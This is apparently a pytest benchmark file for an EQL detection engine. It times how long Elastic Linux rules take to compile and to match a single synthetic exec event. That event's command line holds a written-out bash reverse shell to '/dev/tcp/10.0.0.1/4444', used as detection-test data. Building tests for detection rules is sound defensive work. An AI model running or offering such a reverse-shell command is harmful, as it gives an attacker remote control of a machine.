"""EQL engine cost: compiling a rule, and matching one exec document against compiled rules."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

from auditproc.eql import compile_query

RULES = Path(__file__).resolve().parents[2] / "shared" / "elastic-rules" / "linux"
NAMES = ["discovery_linux_hping_activity", "impact_memory_swap_modification", "execution_revershell_via_shell_cmd"]
DOC = {
    "event": {"category": ["process"], "type": ["start"], "action": "executed"},
    "host": {"os": {"type": "linux"}},
    "process": {
        "name": "bash",
        "executable": "/usr/bin/bash",
        "args": ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        "args_count": 3,
        "command_line": "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "parent": {"name": "python3", "executable": "/usr/bin/python3"},
    },
}

pytestmark = pytest.mark.skipif(not RULES.is_dir(), reason="shared Linux rules are absent")


def _query(name: str) -> str:
    return tomllib.loads((RULES / f"{name}.toml").read_text())["rule"]["query"]


@pytest.mark.parametrize("name", NAMES)
def test_compile(benchmark, name: str) -> None:
    text = _query(name)
    benchmark(compile_query, text)


@pytest.mark.parametrize("name", NAMES)
def test_match(benchmark, name: str) -> None:
    query = compile_query(_query(name))
    benchmark(query.matches, DOC)


def test_match_all_single_event_rules(benchmark) -> None:
    queries = []
    for path in sorted(RULES.glob("*.toml")):
        try:
            queries.append(compile_query(tomllib.loads(path.read_text())["rule"]["query"]))
        except ValueError:
            continue  # sequences and samples
    benchmark(lambda: [query.matches(DOC) for query in queries])
